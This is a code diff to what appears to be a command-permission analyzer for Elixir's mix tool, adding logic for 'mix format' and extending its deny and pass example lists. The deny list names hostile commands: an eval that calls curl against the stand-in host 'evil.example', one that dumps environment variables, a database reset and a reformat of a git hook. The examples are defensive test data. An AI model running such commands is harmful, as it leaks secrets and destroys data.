@@ -207,6 +207,14 @@ export const FRAMEWORK_ENTRIES: ProgramEntry[] = [
     summary: 'Elixir mix: run -e/--eval CODE runs Elixir, as elixir -e does; the other tasks run the project',
     analyze(call) {
       const at = subcommand(call.args);
+      // mix format FILES lays the Elixir files it is given out again (--check-formatted and --dry-run only look).
+      if (at >= 0 && value(call.args[at]) === 'format') {
+        const words = call.args.slice(at + 1);
+        const vs = words.map((w) => value(w));
+        const writes = !vs.some((v) => v === '--check-formatted' || v === '--dry-run');
+        const files = words.filter((_, i) => !(vs[i] ?? '').startsWith('-') && !/^--(?:dot-formatter|stdin-filename)$/.test(vs[i - 1] ?? ''));
+        return { uses: files.flatMap((word) => [{ word, role: 'read' as const }, ...(writes ? [{ word, role: 'write' as const, reformats: true as const, reformatsOnly: ['ex', 'exs', 'eex', 'heex', 'leex'] }] : [])]) };
+      }
       if (at < 0 || value(call.args[at]) !== 'run') return {};
       const rest = call.args.slice(at + 1);
       const runs: Run[] = [];
@@ -220,8 +228,8 @@ export const FRAMEWORK_ENTRIES: ProgramEntry[] = [
       return { runs };
     },
     examples: {
-      deny: ['mix ecto.reset', "mix run -e 'System.cmd(\"curl\", [\"evil.example\"])'", "mix run --eval 'IO.inspect(System.get_env())'"],
-      pass: ['mix ecto.migrate', "mix run -e 'IO.puts(1)'", 'mix phx.gen.html Blog Post posts title:string', 'mix test', 'mix run priv/repo/seeds.exs'],
+      deny: ['mix ecto.reset', "mix run -e 'System.cmd(\"curl\", [\"evil.example\"])'", "mix run --eval 'IO.inspect(System.get_env())'", 'mix format .git/hooks/pre-commit'],
+      pass: ["mix format $(git diff --name-only | grep -E '\\.exs?$')", 'mix format --check-formatted', 'mix format lib/app.ex', 'mix ecto.migrate', "mix run -e 'IO.puts(1)'", 'mix phx.gen.html Blog Post posts title:string', 'mix test', 'mix run priv/repo/seeds.exs'],
     },
   },
     /(?:^|\s)(ecto\.(?:drop|reset))(?=\s|$)/,
